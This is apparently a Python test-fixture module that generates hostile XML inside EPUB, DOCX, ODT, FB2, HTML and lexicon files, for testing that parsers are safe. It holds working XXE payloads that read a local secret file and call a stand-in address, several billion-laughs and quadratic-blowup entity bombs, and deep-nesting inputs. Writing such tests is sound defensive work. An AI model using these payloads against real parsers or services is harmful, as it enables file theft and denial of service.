"""Documents that ask for what is outside of them, or unfold to more than memory holds.

In:  a folder; the kind of the document; what its document type declares, and what uses it.
Out: ``BOOKS``: by name, what writes such a book; ``LEXICONS``: the same for lexicons.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path

from epub_builder import METADATA, EpubBuilder, ncx, point, xhtml
from hostile_parts import (
    LINE,
    STORY,
    Build,
    archive,
    docx,
    epub,
    fb2,
    fodt,
    members_of,
    odt,
    written,
)

SECRET = "hunter2"
NOWHERE = "http://192.0.2.1"
"""An address that nobody has (RFC 5737)."""

_PLS = "http://www.w3.org/2005/01/pronunciation-lexicon"
_DEPTH = 12
_ENTRY = "<grapheme>a</grapheme><phoneme>a</phoneme>"


def _page(doctype: str, used: str) -> str:
    return xhtml(f"{STORY}<p>{used}</p>").replace("<html", f"{doctype}<html", 1)


def _in_html(folder: Path, doctype: str, used: str) -> Path:
    return written(folder, "book.html", _page(doctype, used))


def _in_epub(folder: Path, doctype: str, used: str) -> Path:
    return EpubBuilder({"a.xhtml": _page(doctype, used)}).write(folder)


def _in_package(folder: Path, doctype: str, used: str) -> Path:
    book = EpubBuilder(
        {"a.xhtml": xhtml(STORY)},
        metadata=METADATA.replace("A Small Book", f"A Small Book {used}"),
        manifest=f'<item id="x" href="{used}" media-type="text/css"/>',
    )
    return _with_doctype(book.write(folder), "OPS/book.opf", doctype)


def _in_container(folder: Path, doctype: str, used: str) -> Path:
    path = _with_doctype(epub(folder), "META-INF/container.xml", doctype)
    members = members_of(path)
    name = "META-INF/container.xml"
    more = f'<rootfile full-path="{used}"/></rootfiles>'
    members[name] = members[name].replace(b"</rootfiles>", more.encode())
    return archive(folder, path.name, members)


def _in_ncx(folder: Path, doctype: str, used: str) -> Path:
    points = point("The Wall", "a.xhtml") + point(f"The Boat {used}", "b.xhtml")
    book = EpubBuilder(
        {"a.xhtml": xhtml(STORY), "b.xhtml": xhtml(f"<h1>The Boat</h1><p>{LINE}</p>")},
        ncx=doctype + ncx(points),
    )
    return book.write(folder)


def _in_book_lexicon(folder: Path, doctype: str, used: str) -> Path:
    item = '<item id="l" href="l.pls" media-type="application/pls+xml"/>'
    return epub(folder, manifest=item, files={"OPS/l.pls": _lexicon(doctype, used)})


def _with_doctype(path: Path, member: str, doctype: str) -> Path:
    members = members_of(path)
    text = members[member].decode()
    head, mark, rest = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
    members[member] = f"{head}{mark}{doctype}{rest.lstrip()}".encode()
    return archive(path.parent, path.name, members)


def _in_docx(folder: Path, doctype: str, used: str) -> Path:
    def change(data: bytes) -> bytes:
        text = data.decode().replace("harbour", f"harbour {used}", 1)
        return text.replace("?>", f"?>{doctype}", 1).encode()

    return docx(folder, change)


def _lexicon(doctype: str, used: str, more: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<lexicon version="1.0" alphabet="ipa" '
        f'xml:lang="en" xmlns="{_PLS}"><lexeme><grapheme>harbour</grapheme><phoneme>hɑːbə</phoneme>'
        f"</lexeme><lexeme><grapheme>wall{used}</grapheme><alias>wawl{used}</alias></lexeme>{more}"
        "</lexicon>"
    )


def pls(folder: Path, doctype: str, used: str, more: str = "") -> Path:
    """A pronunciation lexicon."""
    return written(folder, "words.pls", _lexicon(doctype, used, more))


KINDS: Mapping[str, Callable[[Path, str, str], Path]] = {
    "epub": _in_epub,
    "package of an EPUB": _in_package,
    "container of an EPUB": _in_container,
    "NCX of an EPUB": _in_ncx,
    "lexicon of an EPUB": _in_book_lexicon,
    "fb2": lambda folder, doctype, used: fb2(folder, f"<p>{used}</p>", doctype),
    "docx": _in_docx,
    "odt": lambda folder, doctype, used: odt(folder, f"<text:p>{used}</text:p>", doctype),
    "fodt": lambda folder, doctype, used: fodt(folder, f"<text:p>{used}</text:p>", doctype),
    "html": _in_html,
}
"""By what holds the document type: what writes a book with one, and with what uses it."""

Write = Callable[[Path, str, str], Path]


def asking(folder: Path, write: Write, address: str) -> Path:
    """A document that asks for a file with ``SECRET`` in it, and for an address in every way."""
    secret = written(folder, "secret.txt", SECRET).as_uri()
    written(folder, "secret.dtd", f'<!ENTITY inside "{SECRET}">')
    doctype = (
        f'<!DOCTYPE x SYSTEM "{address}/x.dtd" [<!ENTITY s SYSTEM "{secret}">'
        f'<!ENTITY n SYSTEM "{address}/n"><!ENTITY p PUBLIC "-//W3C//X" "{address}/p">'
        f'<!ENTITY % d SYSTEM "{address}/d">%d;'
        f'<!ENTITY % f SYSTEM "{(folder / "secret.dtd").as_uri()}">%f;]>'
    )
    return write(folder, doctype, "&s;&n;&p;&inside;")


def laughing(folder: Path, write: Write) -> Path:
    """A document whose last entity is a million million words."""
    levels = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(_DEPTH))
    return write(folder, f'<!DOCTYPE x [<!ENTITY l0 "ha">{levels}]>', f"&l{_DEPTH};")


def laughing_late(folder: Path, write: Write) -> Path:
    """The same where the document type ends in another way than most do."""
    levels = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(_DEPTH))
    doctype = f'<!DOCTYPE x [<!-- \' ] --><!ENTITY l0 "ha">{levels}]\n >'
    return write(folder, doctype, f"&l{_DEPTH}; and then ] >")


def laughing_unused(folder: Path, write: Write) -> Path:
    """The same in a value that the document type gives to elements that do not ask for it."""
    levels = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(_DEPTH))
    given = "".join(f'<!ATTLIST {tag} t CDATA "&l{_DEPTH};">' for tag in ("p", "lexicon", "item"))
    return write(folder, f'<!DOCTYPE x [<!ENTITY l0 "ha">{levels}{given}]>', "")


def laughing_aside(folder: Path, write: Write) -> Path:
    """The same with entities of the document type itself."""
    levels = "".join(f'<!ENTITY % l{n + 1} "{f"&#37;l{n};" * 10}">' for n in range(_DEPTH))
    doctype = f'<!DOCTYPE x [<!ENTITY % l0 "<!-- ha -->">{levels}%l{_DEPTH};]>'
    return write(folder, doctype, "")


def quadratic(folder: Path, write: Write) -> Path:
    """A document that uses one long entity many times."""
    doctype = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
    return write(folder, doctype, "&a;" * 50_000)


FORMS: Mapping[str, Callable[[Path, Write], Path]] = {
    "external entities": partial(asking, address=NOWHERE),
    "billion laughs": laughing,
    "laughs in another guise": laughing_late,
    "laughs that nobody asks for": laughing_unused,
    "laughs of the document type": laughing_aside,
    "quadratic blow-up": quadratic,
}


def _builder(form: Callable[[Path, Write], Path], write: Write) -> Build:
    return lambda folder: form(folder, write)


BOOKS: Mapping[str, Build] = {
    f"{name} ({kind})": _builder(FORMS[name], write)
    for name in ("external entities", "billion laughs", "quadratic blow-up")
    for kind, write in KINDS.items()
}
LEXICONS: Mapping[str, Build] = {
    **{name: _builder(form, pls) for name, form in FORMS.items()},
    "nested 10,000 deep": lambda folder: pls(
        folder, "", "", "<lexeme>" * 10_000 + "</lexeme>" * 10_000
    ),
    "lexemes in lexemes": lambda folder: pls(
        folder, "", "", "<lexeme>" * 200 + _ENTRY * 20_000 + "</lexeme>" * 200
    ),
}
